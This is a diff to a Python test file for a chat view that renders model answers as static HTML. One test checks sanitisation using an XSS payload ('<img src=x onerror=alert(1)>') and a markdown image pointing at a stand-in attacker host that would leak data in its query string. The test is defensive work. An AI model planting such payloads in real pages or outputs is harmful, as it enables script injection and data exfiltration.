@@ -240,7 +240,7 @@ async def test_the_turn_end_updates_the_static_form_in_place(
     await session.run("What is 2 + 3?")
     assert [display_id for _, display_id in updates] == ["d1"]
     data, _ = updates[-1]
-    assert "It is **5**." in data["text/html"]
+    assert "It is <strong>5</strong>." in data["text/html"]
     assert data["text/html"].startswith('<div class="neta-static-form">')
     assert data["text/plain"] == "helper · 2 messages\nIt is **5**."
     await session.run("And again?")
@@ -475,14 +475,18 @@ def test_an_empty_chat_says_how_to_open_it_where_the_chat_will_be() -> None:
     assert "运行此单元格以打开与 helper 的对话。" in chat._fallback_html()
 
 
-async def test_the_static_form_writes_model_text_as_text() -> None:
-    # A static viewer renders this HTML: an image in the answer must not load there.
-    session, _ = make_session([answer("Done.\n\n![](http://attacker.example/?d=k) <img src=x>")])
+async def test_the_static_form_draws_model_markdown_but_nothing_that_loads_or_runs() -> None:
+    # A static viewer renders this HTML unsanitized: the answer's markdown is drawn, but an
+    # image in it must not load there, nor its raw HTML become tags.
+    session, _ = make_session([answer(
+        "**Done.**\n\n![chart](http://attacker.example/?d=k) <img src=x onerror=alert(1)>")])
     chat = ChatView(session)
-    await session.run("Go")
+    await session.run("Go <b>now</b>")
     page = chat._static_form.bundle()["text/html"]
-    assert "<img" not in page
-    assert "Done.\n\n![](http://attacker.example/?d=k) &lt;img src=x&gt;" in page
+    assert "<strong>Done.</strong>" in page
+    assert "<img" not in page and "attacker.example" not in page and "[chart]" in page
+    assert "&lt;img src=x onerror=alert(1)&gt;" in page
+    assert "Go &lt;b&gt;now&lt;/b&gt;" in page  # the user's words as typed
 
 
 def test_requests_without_a_session_fail_cleanly() -> None:
